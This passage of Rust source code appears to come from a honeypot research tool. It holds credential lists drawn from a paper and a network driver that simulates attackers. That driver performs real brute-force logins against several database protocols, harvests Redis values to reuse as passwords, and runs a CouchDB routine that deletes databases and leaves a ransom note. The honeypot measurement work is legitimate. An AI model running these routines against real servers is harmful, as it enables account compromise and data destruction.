            med(Dbms::Postgres, ConfigVariant::Default),
            SessionScript::RdpProbe,
            &[],
        );
        assert_eq!(
            store
                .filter(|e| matches!(&e.kind, EventKind::Payload { recognized: Some(r), .. } if r == "rdp-scan"))
                .len(),
            1
        );
    }

    #[test]
    fn ransom_direct_shape() {
        let store = run(
            HoneypotId::new(
                Dbms::MongoDb,
                InteractionLevel::High,
                ConfigVariant::FakeData,
                0,
            ),
            SessionScript::MongoRansom { group: 1 },
            &[],
        );
        let actions: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { action, .. } => Some(action),
                _ => None,
            })
            .collect();
        assert_eq!(
            actions,
            vec![
                "ismaster",
                "listDatabases",
                "listCollections customers",
                "find customers.records",
                "drop customers.records",
                "insert customers.README",
            ]
        );
    }
}
