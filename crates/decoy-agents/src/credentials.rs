//! Brute-force credential corpora.
//!
//! §5 of the paper: MSSQL brute-forcers tried 240,131 unique combinations
//! (14,540 usernames, 226,961 passwords), led by the Table 12 pairs — `sa`
//! with short numeric passwords. Generated lists here mix those exact top
//! pairs with a seeded long tail so that the Table 12 reproduction shows
//! the same head and a realistic tail.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// The Table 12 head: top observed MSSQL `(username, password)` pairs, in
/// order.
pub const MSSQL_TOP_CREDENTIALS: &[(&str, &str)] = &[
    ("sa", "123"),
    ("admin", "123456"),
    ("hbv7", ""),
    ("test", "1"),
    ("root", "aaaaaa"),
    ("user", "0"),
    ("administrator", "1234"),
    ("sa1", "P@ssw0rd"),
    ("petroleum", "12345"),
    ("sa2", "password"),
];

/// Common MySQL brute pairs (cloud-hosted MySQL brute cohort of Table 6).
pub const MYSQL_TOP_CREDENTIALS: &[(&str, &str)] = &[
    ("root", "root"),
    ("root", "123456"),
    ("root", "password"),
    ("admin", "admin"),
    ("mysql", "mysql"),
    ("root", ""),
    ("root", "aaaaaa"),
    ("test", "test"),
];

/// The single combinations PostgreSQL "brute-forcers" tried (§5: "attackers
/// that try a single combination once or repeatedly without changing their
/// input combination").
pub const PG_SINGLE_COMBOS: &[(&str, &str)] = &[
    ("postgres", "postgres"),
    ("postgres", "123456"),
    ("postgres", "password"),
    ("admin", "admin"),
];

/// A seeded credential stream for one brute-force actor.
#[derive(Debug)]
pub struct CredentialList {
    rng: StdRng,
    head: &'static [(&'static str, &'static str)],
    /// Probability of drawing from the head list (keeps Table 12's ranking).
    head_bias: f64,
}

impl CredentialList {
    /// MSSQL-style list for one actor.
    pub fn mssql(seed: u64) -> Self {
        CredentialList {
            rng: StdRng::seed_from_u64(seed),
            head: MSSQL_TOP_CREDENTIALS,
            head_bias: 0.55,
        }
    }

    /// MySQL-style list for one actor.
    pub fn mysql(seed: u64) -> Self {
        CredentialList {
            rng: StdRng::seed_from_u64(seed),
            head: MYSQL_TOP_CREDENTIALS,
            head_bias: 0.7,
        }
    }

    /// Draw the next `(username, password)` attempt.
    pub fn draw(&mut self) -> (String, String) {
        if self.rng.gen_bool(self.head_bias) {
            // head draws are rank-biased: rank r with weight ~ 1/(r+1)
            let weights: Vec<f64> = (0..self.head.len()).map(|r| 1.0 / (r + 1) as f64).collect();
            let total: f64 = weights.iter().sum();
            let mut pick = self.rng.gen_range(0.0..total);
            for (idx, w) in weights.iter().enumerate() {
                if pick < *w {
                    let (u, p) = self.head[idx];
                    return (u.to_string(), p.to_string());
                }
                pick -= w;
            }
            let (u, p) = self.head[0];
            (u.to_string(), p.to_string())
        } else {
            (self.tail_username(), self.tail_password())
        }
    }

    /// Draw `n` attempts.
    pub fn take(&mut self, n: usize) -> Vec<(String, String)> {
        (0..n).map(|_| self.draw()).collect()
    }

    fn tail_username(&mut self) -> String {
        // Long-tail usernames: mostly `sa`, sometimes service names or
        // generated ones — matching the paper's 14,540 distinct usernames
        // against a much larger password space.
        match self.rng.gen_range(0..10) {
            0..=5 => "sa".to_string(),
            6 => "admin".to_string(),
            7 => "sqlserver".to_string(),
            8 => format!("user{}", self.rng.gen_range(0..500)),
            _ => format!("db{}", self.rng.gen_range(0..200)),
        }
    }

    fn tail_password(&mut self) -> String {
        const ROOTS: &[&str] = &[
            "password", "qwerty", "admin", "sql", "server", "abc", "pass", "login",
        ];
        match self.rng.gen_range(0..6) {
            0 => format!("{}", self.rng.gen_range(0..1_000_000)),
            1 => format!(
                "{}{}",
                ROOTS[self.rng.gen_range(0..ROOTS.len())],
                self.rng.gen_range(0..10_000)
            ),
            2 => format!(
                "{}@{}",
                ROOTS[self.rng.gen_range(0..ROOTS.len())],
                self.rng.gen_range(0..1000)
            ),
            3 => format!("P@ss{}", self.rng.gen_range(0..100_000)),
            4 => format!("{}!", ROOTS[self.rng.gen_range(0..ROOTS.len())]),
            _ => {
                let len = self.rng.gen_range(6..12);
                (0..len)
                    .map(|_| (b'a' + self.rng.gen_range(0..26)) as char)
                    .collect()
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{HashMap, HashSet};

    #[test]
    fn deterministic_per_seed() {
        let mut a = CredentialList::mssql(7);
        let mut b = CredentialList::mssql(7);
        assert_eq!(a.take(100), b.take(100));
        let mut c = CredentialList::mssql(8);
        assert_ne!(a.take(100), c.take(100));
    }

    #[test]
    fn sa_dominates_mssql_draws() {
        // Table 12: `sa` is the top username by a wide margin.
        let mut list = CredentialList::mssql(1);
        let mut counts: HashMap<String, usize> = HashMap::new();
        for (u, _) in list.take(5000) {
            *counts.entry(u).or_insert(0) += 1;
        }
        let sa = counts["sa"];
        let max_other = counts
            .iter()
            .filter(|(k, _)| k.as_str() != "sa")
            .map(|(_, &v)| v)
            .max()
            .unwrap();
        assert!(sa > max_other * 3, "sa={sa}, max_other={max_other}");
    }

    #[test]
    fn top_pair_ranks_first() {
        let mut list = CredentialList::mssql(2);
        let mut counts: HashMap<(String, String), usize> = HashMap::new();
        for pair in list.take(20_000) {
            *counts.entry(pair).or_insert(0) += 1;
        }
        let top = counts
            .iter()
            .max_by_key(|(_, &v)| v)
            .map(|(k, _)| k.clone())
            .unwrap();
        assert_eq!(top, ("sa".to_string(), "123".to_string()));
    }

    #[test]
    fn long_tail_is_wide() {
        // §5: far more unique passwords than usernames.
        let mut list = CredentialList::mssql(3);
        let draws = list.take(20_000);
        let users: HashSet<_> = draws.iter().map(|(u, _)| u.clone()).collect();
        let passwords: HashSet<_> = draws.iter().map(|(_, p)| p.clone()).collect();
        assert!(passwords.len() > users.len() * 5);
        assert!(passwords.len() > 3000, "{}", passwords.len());
    }

    #[test]
    fn mysql_head_differs() {
        let mut list = CredentialList::mysql(4);
        let draws = list.take(1000);
        assert!(draws.iter().any(|(u, p)| u == "root" && p == "root"));
    }

    #[test]
    fn pg_single_combos_are_static() {
        assert!(PG_SINGLE_COMBOS.contains(&("postgres", "postgres")));
        assert_eq!(MSSQL_TOP_CREDENTIALS.len(), 10);
        assert_eq!(MSSQL_TOP_CREDENTIALS[2], ("hbv7", ""));
    }
}
