//! Network mode: execute a planned session against a live honeypot.
//!
//! The driver opens real TCP connections, announces the simulated actor's
//! source address with a PROXY v1 header (exactly what a honeypot behind a
//! TCP load balancer sees), and speaks the target's wire protocol using the
//! client codecs from `decoy-wire`. Responses are read and — like real
//! attack scripts — drive control flow (e.g. a failed PostgreSQL login
//! aborts the Kinsing injection).

use crate::schedule::PlannedSession;
use crate::scripts::{self, CampaignParams, SessionScript};
use decoy_net::codec::Codec;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_wire::mongo::bson::{doc, Bson, Document};
use decoy_wire::mongo::{MongoBody, MongoCodec, MongoMessage};
use decoy_wire::{foreign, http, mysql, pgwire, resp, tds};
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// Hard ceiling on one planned session; a backstop only — burst loops
/// self-limit via [`BURST_BUDGET`] so cancellation never lands between a
/// `connect()` and its PROXY header (which would log a loopback artifact).
const SESSION_DEADLINE: Duration = Duration::from_secs(120);

/// Budget for multi-connection bursts; on expiry the burst stops cleanly at
/// a connection boundary.
const BURST_BUDGET: Duration = Duration::from_secs(45);

/// What happened while executing one planned session.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SessionOutcome {
    /// TCP connections opened.
    pub connections: usize,
    /// Exchanges that ended in an I/O or protocol error.
    pub errors: usize,
}

/// Execute `session` against the honeypot listening at `addr`.
pub async fn run_session(addr: SocketAddr, session: &PlannedSession) -> SessionOutcome {
    match tokio::time::timeout(SESSION_DEADLINE, dispatch(addr, session)).await {
        Ok(outcome) => outcome,
        Err(_) => SessionOutcome {
            connections: 1,
            errors: 1,
        },
    }
}

async fn dispatch(addr: SocketAddr, session: &PlannedSession) -> SessionOutcome {
    let src = SocketAddr::new(
        IpAddr::V4(session.src),
        40_000 + (session.ts.as_millis() % 20_000) as u16,
    );
    let params = CampaignParams::derive(u64::from(u32::from(session.src)));
    match &session.script {
        SessionScript::ConnectOnly => connect_only(addr, src).await,
        SessionScript::MysqlBrute { creds } => mysql_brute(addr, src, creds).await,
        SessionScript::MssqlBrute { creds } => mssql_brute(addr, src, creds).await,
        SessionScript::PgBrute { creds } => pg_brute(addr, src, creds).await,
        SessionScript::PgLogin {
            user,
            password,
            repeats,
        } => {
            let creds = vec![(user.clone(), password.clone()); (*repeats).max(1) as usize];
            pg_brute(addr, src, &creds).await
        }
        SessionScript::RedisAuth { passwords } => redis_auth(addr, src, passwords).await,
        SessionScript::RedisScout { type_walk } => redis_scout(addr, src, *type_walk).await,
        SessionScript::ElasticScout { deep } => elastic_scout(addr, src, *deep).await,
        SessionScript::MongoScout { deep } => mongo_scout(addr, src, *deep).await,
        SessionScript::PgScout => pg_session(addr, src, &["SELECT version();".to_string()]).await,
        SessionScript::P2pInfect => {
            redis_campaign(addr, src, scripts::p2pinfect_commands(&params)).await
        }
        SessionScript::AbcBot => redis_campaign(addr, src, scripts::abcbot_commands(&params)).await,
        SessionScript::RedisCve20220543 => {
            redis_campaign(addr, src, scripts::redis_cve_commands()).await
        }
        SessionScript::Kinsing => pg_session(addr, src, &scripts::kinsing_queries(&params)).await,
        SessionScript::PgPrivilege => {
            pg_session(addr, src, &scripts::pg_privilege_queries(&params)).await
        }
        SessionScript::Lucifer => lucifer(addr, src, &params).await,
        SessionScript::MongoRansom { group } => mongo_ransom(addr, src, *group, &params).await,
        SessionScript::HarvestAndReuse => harvest_and_reuse(addr, src).await,
        SessionScript::CouchScout => couch_scout(addr, src).await,
        SessionScript::CouchRansom => couch_ransom(addr, src, &params).await,
        SessionScript::MysqlScout => mysql_scout(addr, src).await,
        SessionScript::RdpProbe => {
            raw_probe(addr, src, &foreign::rdp_connection_request("Administr")).await
        }
        SessionScript::JdwpProbe => raw_probe(addr, src, &foreign::jdwp_handshake()).await,
        SessionScript::VmwareRecon => {
            let body = foreign::vmware_soap_body();
            http_probe(addr, src, "POST", "/sdk", "text/xml", body.as_bytes()).await
        }
        SessionScript::CraftCms => {
            let body = foreign::craftcms_probe_body();
            http_probe(
                addr,
                src,
                "POST",
                "/index.php?p=admin/actions/conditions/render",
                "application/x-www-form-urlencoded",
                body.as_bytes(),
            )
            .await
        }
        SessionScript::FingerprintProbe => {
            fingerprint_probe(addr, src, session.target.dbms).await
        }
    }
}

/// The scanner side of the fingerprinting arms race: grab the banner,
/// cross-check an advertised capability, and elicit one error-catalog
/// response — the abbreviated network shape of the `decoy-fingerprint`
/// probe battery.
async fn fingerprint_probe(
    addr: SocketAddr,
    src: SocketAddr,
    dbms: decoy_store::Dbms,
) -> SessionOutcome {
    use decoy_store::Dbms;
    match dbms {
        Dbms::Redis => {
            let Ok(mut framed) = redis_connect(addr, src).await else {
                return err_outcome(1);
            };
            let run = async {
                redis_exchange(&mut framed, &["INFO".to_string(), "server".to_string()]).await?;
                redis_exchange(
                    &mut framed,
                    &["FINGERPRINTPROBE".to_string(), "arg".to_string()],
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        Dbms::Postgres => {
            pg_session(
                addr,
                src,
                &[
                    "SELECT version();".to_string(),
                    "FROBNICATE the catalog".to_string(),
                ],
            )
            .await
        }
        Dbms::MySql => mysql_fingerprint(addr, src).await,
        Dbms::MongoDb => {
            let Ok(mut framed) = mongo_connect(addr, src).await else {
                return err_outcome(1);
            };
            let mut rid = 0i32;
            let run = async {
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "isMaster" => 1i32, "$db" => "admin" },
                )
                .await?;
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "buildInfo" => 1i32, "$db" => "admin" },
                )
                .await?;
                mongo_command(
                    &mut framed,
                    &mut rid,
                    doc! { "fingerprintProbe" => 1i32, "$db" => "admin" },
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        Dbms::Elastic => {
            let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
                return err_outcome(1);
            };
            let run = async {
                http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
                http_request(
                    &mut framed,
                    http::HttpRequest::new("GET", "/fingerprint_probe_missing"),
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        Dbms::CouchDb => {
            let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
                return err_outcome(1);
            };
            let run = async {
                http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
                http_request(
                    &mut framed,
                    http::HttpRequest::new("GET", "/fingerprint_probe_missing_db"),
                )
                .await?;
                Ok::<(), std::io::Error>(())
            };
            match run.await {
                Ok(()) => ok_outcome(1),
                Err(_) => err_outcome(1),
            }
        }
        // no fingerprint client for the remaining protocols: banner-grab only
        _ => connect_only(addr, src).await,
    }
}

/// MySQL fingerprinting: greeting facts, a version cross-check, and one
/// deliberate parse error.
async fn mysql_fingerprint(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let run = async {
        let mut framed = connect(addr, src, mysql::MySqlCodec).await?;
        let greeting = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no greeting"))?;
        mysql::Greeting::parse(&greeting.payload).map_err(io_err)?;
        framed
            .write_frame(&mysql::MySqlPacket {
                seq: greeting.seq.wrapping_add(1),
                payload: mysql::LoginRequest::cleartext("root", "root", None).build(),
            })
            .await
            .map_err(io_err)?;
        let reply = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no auth reply"))?;
        if reply.payload.first() == Some(&0x00) {
            let mut q = vec![0x03];
            q.extend_from_slice(b"SELECT @@version");
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: 0,
                    payload: q.into(),
                })
                .await
                .map_err(io_err)?;
            for _ in 0..5 {
                framed
                    .read_frame()
                    .await
                    .map_err(io_err)?
                    .ok_or_else(|| io_err_msg("result truncated"))?;
            }
            // the error-catalog probe: gibberish SQL, one ERR packet back
            let mut bad = vec![0x03];
            bad.extend_from_slice(b"FINGERPRINT PROBE");
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: 0,
                    payload: bad.into(),
                })
                .await
                .map_err(io_err)?;
            framed
                .read_frame()
                .await
                .map_err(io_err)?
                .ok_or_else(|| io_err_msg("no error reply"))?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

/// Open a connection and send the PROXY header announcing `src`.
async fn connect<C: Codec>(
    addr: SocketAddr,
    src: SocketAddr,
    codec: C,
) -> std::io::Result<Framed<TcpStream, C>> {
    let mut stream = TcpStream::connect(addr).await?;
    let header = proxy::encode_v1(src, addr);
    stream.write_all(header.as_bytes()).await?;
    Ok(Framed::new(stream, codec))
}

fn ok_outcome(connections: usize) -> SessionOutcome {
    SessionOutcome {
        connections,
        errors: 0,
    }
}

fn err_outcome(connections: usize) -> SessionOutcome {
    SessionOutcome {
        connections,
        errors: 1,
    }
}

async fn connect_only(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    match connect(addr, src, decoy_net::codec::RawCodec).await {
        Ok(framed) => {
            // Give the honeypot a moment to register the session before the
            // FIN races the PROXY header.
            let (mut stream, _) = framed.into_parts();
            let _ = stream.flush().await;
            drop(stream);
            ok_outcome(1)
        }
        Err(_) => err_outcome(1),
    }
}

async fn raw_probe(addr: SocketAddr, src: SocketAddr, payload: &[u8]) -> SessionOutcome {
    match connect(addr, src, decoy_net::codec::RawCodec).await {
        Ok(mut framed) => {
            if framed.write_raw(payload).await.is_err() {
                return err_outcome(1);
            }
            // probes wait briefly for any banner/error, then leave
            let _ = tokio::time::timeout(Duration::from_millis(200), framed.read_frame()).await;
            ok_outcome(1)
        }
        Err(_) => err_outcome(1),
    }
}

async fn mysql_brute(
    addr: SocketAddr,
    src: SocketAddr,
    creds: &[(String, String)],
) -> SessionOutcome {
    let mut outcome = SessionOutcome::default();
    let started = std::time::Instant::now();
    for (user, password) in creds {
        if started.elapsed() > BURST_BUDGET {
            break;
        }
        outcome.connections += 1;
        let attempt = async {
            let mut framed = connect(addr, src, mysql::MySqlCodec).await?;
            let greeting = framed
                .read_frame()
                .await
                .map_err(io_err)?
                .ok_or_else(|| io_err_msg("no greeting"))?;
            mysql::Greeting::parse(&greeting.payload).map_err(io_err)?;
            let login = mysql::LoginRequest::cleartext(user, password, None);
            framed
                .write_frame(&mysql::MySqlPacket {
                    seq: greeting.seq.wrapping_add(1),
                    payload: login.build(),
                })
                .await
                .map_err(io_err)?;
            let _reply = framed.read_frame().await.map_err(io_err)?;
            Ok::<(), std::io::Error>(())
        };
        if attempt.await.is_err() {
            outcome.errors += 1;
        }
    }
    outcome
}

async fn mssql_brute(
    addr: SocketAddr,
    src: SocketAddr,
    creds: &[(String, String)],
) -> SessionOutcome {
    let mut outcome = SessionOutcome::default();
    let started = std::time::Instant::now();
    for (user, password) in creds {
        if started.elapsed() > BURST_BUDGET {
            break;
        }
        outcome.connections += 1;
        let attempt = async {
            let mut framed = connect(addr, src, tds::TdsCodec).await?;
            framed
                .write_frame(&tds::TdsPacket::eom(
                    tds::PKT_PRELOGIN,
                    tds::build_prelogin(&[
                        (0x00, vec![15, 0, 0, 0, 0, 0].into()),
                        (0x01, vec![2].into()),
                    ]),
                ))
                .await
                .map_err(io_err)?;
            framed.read_frame().await.map_err(io_err)?;
            let login = tds::Login7 {
                hostname: "WIN-SCAN".into(),
                username: user.clone(),
                password: password.clone(),
                appname: "OSQL-32".into(),
                servername: addr.ip().to_string(),
                database: String::new(),
            };
            framed
                .write_frame(&tds::TdsPacket::eom(tds::PKT_LOGIN7, login.build()))
                .await
                .map_err(io_err)?;
            framed.read_frame().await.map_err(io_err)?;
            Ok::<(), std::io::Error>(())
        };
        if attempt.await.is_err() {
            outcome.errors += 1;
        }
    }
    outcome
}

/// One PostgreSQL login exchange; returns the framed connection when the
/// server accepted the password.
async fn pg_login_once(
    addr: SocketAddr,
    src: SocketAddr,
    user: &str,
    password: &str,
) -> std::io::Result<Option<Framed<TcpStream, pgwire::PgClientCodec>>> {
    let mut framed = connect(addr, src, pgwire::PgClientCodec::new()).await?;
    framed
        .write_frame(&pgwire::FrontendMessage::Startup {
            params: vec![
                ("user".into(), user.to_string()),
                ("database".into(), "postgres".into()),
            ],
        })
        .await
        .map_err(io_err)?;
    loop {
        let msg = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("server closed during auth"))?;
        match msg {
            pgwire::BackendMessage::AuthenticationCleartextPassword
            | pgwire::BackendMessage::AuthenticationMd5Password { .. } => {
                framed
                    .write_frame(&pgwire::FrontendMessage::Password(password.to_string()))
                    .await
                    .map_err(io_err)?;
            }
            pgwire::BackendMessage::AuthenticationOk => {
                // drain until ReadyForQuery
                loop {
                    match framed.read_frame().await.map_err(io_err)? {
                        Some(pgwire::BackendMessage::ReadyForQuery { .. }) => {
                            return Ok(Some(framed))
                        }
                        Some(_) => continue,
                        None => return Ok(None),
                    }
                }
            }
            pgwire::BackendMessage::ErrorResponse { .. } => return Ok(None),
            _ => continue,
        }
    }
}

async fn pg_brute(addr: SocketAddr, src: SocketAddr, creds: &[(String, String)]) -> SessionOutcome {
    let mut outcome = SessionOutcome::default();
    let started = std::time::Instant::now();
    for (user, password) in creds {
        if started.elapsed() > BURST_BUDGET {
            break;
        }
        outcome.connections += 1;
        match pg_login_once(addr, src, user, password).await {
            Ok(Some(mut framed)) => {
                let _ = framed
                    .write_frame(&pgwire::FrontendMessage::Terminate)
                    .await;
            }
            Ok(None) => {}
            Err(_) => outcome.errors += 1,
        }
    }
    outcome
}

/// Log in and run `queries`, reading each response to completion.
async fn pg_session(addr: SocketAddr, src: SocketAddr, queries: &[String]) -> SessionOutcome {
    let login = pg_login_once(addr, src, "postgres", "postgres").await;
    let mut framed = match login {
        Ok(Some(f)) => f,
        Ok(None) => return ok_outcome(1), // rejected (login-disabled config)
        Err(_) => return err_outcome(1),
    };
    for q in queries {
        if framed
            .write_frame(&pgwire::FrontendMessage::Query(q.clone()))
            .await
            .is_err()
        {
            return err_outcome(1);
        }
        loop {
            match framed.read_frame().await {
                Ok(Some(pgwire::BackendMessage::ReadyForQuery { .. })) => break,
                Ok(Some(_)) => continue,
                Ok(None) | Err(_) => return err_outcome(1),
            }
        }
    }
    let _ = framed
        .write_frame(&pgwire::FrontendMessage::Terminate)
        .await;
    ok_outcome(1)
}

async fn redis_connect(
    addr: SocketAddr,
    src: SocketAddr,
) -> std::io::Result<Framed<TcpStream, resp::RespCodec>> {
    connect(addr, src, resp::RespCodec::client()).await
}

async fn redis_exchange(
    framed: &mut Framed<TcpStream, resp::RespCodec>,
    parts: &[String],
) -> Result<resp::RespValue, std::io::Error> {
    let cmd = resp::RespValue::Array(
        parts
            .iter()
            .map(|p| resp::RespValue::Bulk(p.clone().into_bytes().into()))
            .collect(),
    );
    framed.write_frame(&cmd).await.map_err(io_err)?;
    framed
        .read_frame()
        .await
        .map_err(io_err)?
        .ok_or_else(|| io_err_msg("server closed"))
}

async fn redis_auth(addr: SocketAddr, src: SocketAddr, passwords: &[String]) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    for pw in passwords {
        if redis_exchange(&mut framed, &["AUTH".to_string(), pw.clone()])
            .await
            .is_err()
        {
            return err_outcome(1);
        }
    }
    ok_outcome(1)
}

async fn redis_scout(addr: SocketAddr, src: SocketAddr, type_walk: bool) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    let run = async {
        redis_exchange(&mut framed, &["INFO".to_string()]).await?;
        redis_exchange(&mut framed, &["DBSIZE".to_string()]).await?;
        let keys = redis_exchange(&mut framed, &["KEYS".to_string(), "*".to_string()]).await?;
        if type_walk {
            if let resp::RespValue::Array(items) = keys {
                for item in items {
                    if let Some(key) = item.as_text() {
                        redis_exchange(&mut framed, &["TYPE".to_string(), key]).await?;
                    }
                }
            }
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

/// KEYS * → GET each entry (harvest) → AUTH with harvested passwords.
async fn harvest_and_reuse(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    let run = async {
        let keys = redis_exchange(&mut framed, &["KEYS".to_string(), "*".to_string()]).await?;
        let mut harvested: Vec<String> = Vec::new();
        if let resp::RespValue::Array(items) = keys {
            for item in items.into_iter().take(8) {
                let Some(key) = item.as_text() else { continue };
                let value = redis_exchange(&mut framed, &["GET".to_string(), key.clone()]).await?;
                if let resp::RespValue::Bulk(bytes) = value {
                    harvested.push(String::from_utf8_lossy(&bytes).into_owned());
                }
            }
        }
        for password in harvested.into_iter().take(4) {
            redis_exchange(&mut framed, &["AUTH".to_string(), password]).await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn redis_campaign(
    addr: SocketAddr,
    src: SocketAddr,
    commands: Vec<Vec<String>>,
) -> SessionOutcome {
    let Ok(mut framed) = redis_connect(addr, src).await else {
        return err_outcome(1);
    };
    for cmd in commands {
        // campaign scripts ignore errors and push on, like the bots do
        if redis_exchange(&mut framed, &cmd).await.is_err() {
            return err_outcome(1);
        }
    }
    ok_outcome(1)
}

async fn http_request(
    framed: &mut Framed<TcpStream, http::HttpClientCodec>,
    req: http::HttpRequest,
) -> Result<http::HttpResponse, std::io::Error> {
    framed.write_frame(&req).await.map_err(io_err)?;
    framed
        .read_frame()
        .await
        .map_err(io_err)?
        .ok_or_else(|| io_err_msg("server closed"))
}

async fn elastic_scout(addr: SocketAddr, src: SocketAddr, deep: bool) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let run = async {
        http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
        http_request(
            &mut framed,
            http::HttpRequest::new("GET", "/_cluster/health"),
        )
        .await?;
        http_request(&mut framed, http::HttpRequest::new("GET", "/_nodes")).await?;
        if deep {
            http_request(
                &mut framed,
                http::HttpRequest::new("GET", "/_cat/indices?v"),
            )
            .await?;
            http_request(
                &mut framed,
                http::HttpRequest::new("POST", "/_search")
                    .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
            )
            .await?;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn couch_scout(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let run = async {
        http_request(&mut framed, http::HttpRequest::new("GET", "/")).await?;
        let dbs = http_request(&mut framed, http::HttpRequest::new("GET", "/_all_dbs")).await?;
        if let Ok(serde_json::Value::Array(names)) =
            serde_json::from_slice::<serde_json::Value>(&dbs.body)
        {
            for name in names.iter().take(4) {
                if let Some(db) = name.as_str() {
                    http_request(
                        &mut framed,
                        http::HttpRequest::new("GET", &format!("/{db}/_all_docs")),
                    )
                    .await?;
                }
            }
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn couch_ransom(
    addr: SocketAddr,
    src: SocketAddr,
    params: &CampaignParams,
) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let run = async {
        let dbs = http_request(&mut framed, http::HttpRequest::new("GET", "/_all_dbs")).await?;
        let names: Vec<String> = serde_json::from_slice(&dbs.body).unwrap_or_default();
        for db in names.iter().filter(|d| *d != "warning") {
            http_request(
                &mut framed,
                http::HttpRequest::new("GET", &format!("/{db}/_all_docs")),
            )
            .await?;
            http_request(
                &mut framed,
                http::HttpRequest::new("DELETE", &format!("/{db}")),
            )
            .await?;
        }
        let note = scripts::ransom_note(0, &params.hash_hex()[..8]);
        http_request(
            &mut framed,
            http::HttpRequest::new("PUT", "/warning/readme").with_body(
                "application/json",
                serde_json::json!({ "note": note }).to_string(),
            ),
        )
        .await?;
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn mysql_scout(addr: SocketAddr, src: SocketAddr) -> SessionOutcome {
    let run = async {
        let mut framed = connect(addr, src, mysql::MySqlCodec).await?;
        let greeting = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no greeting"))?;
        mysql::Greeting::parse(&greeting.payload).map_err(io_err)?;
        framed
            .write_frame(&mysql::MySqlPacket {
                seq: greeting.seq.wrapping_add(1),
                payload: mysql::LoginRequest::cleartext("root", "root", None).build(),
            })
            .await
            .map_err(io_err)?;
        let reply = framed
            .read_frame()
            .await
            .map_err(io_err)?
            .ok_or_else(|| io_err_msg("no auth reply"))?;
        if reply.payload.first() == Some(&0x00) {
            // accepted (medium honeypot): run the recon queries
            for sql in ["SELECT @@version", "SHOW DATABASES"] {
                let mut q = vec![0x03];
                q.extend_from_slice(sql.as_bytes());
                framed
                    .write_frame(&mysql::MySqlPacket {
                        seq: 0,
                        payload: q.into(),
                    })
                    .await
                    .map_err(io_err)?;
                // drain the 5-packet result set
                for _ in 0..5 {
                    framed
                        .read_frame()
                        .await
                        .map_err(io_err)?
                        .ok_or_else(|| io_err_msg("result truncated"))?;
                }
            }
            let _ = framed
                .write_frame(&mysql::MySqlPacket {
                    seq: 0,
                    payload: vec![0x01].into(),
                })
                .await;
        }
        Ok::<(), std::io::Error>(())
    };
    match run.await {
        Ok(()) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn http_probe(
    addr: SocketAddr,
    src: SocketAddr,
    method: &str,
    target: &str,
    content_type: &str,
    body: &[u8],
) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
    let req = http::HttpRequest::new(method, target).with_body(content_type, body.to_vec());
    match http_request(&mut framed, req).await {
        Ok(_) => ok_outcome(1),
        Err(_) => err_outcome(1),
    }
}

async fn lucifer(addr: SocketAddr, src: SocketAddr, params: &CampaignParams) -> SessionOutcome {
    let Ok(mut framed) = connect(addr, src, http::HttpClientCodec).await else {
        return err_outcome(1);
    };
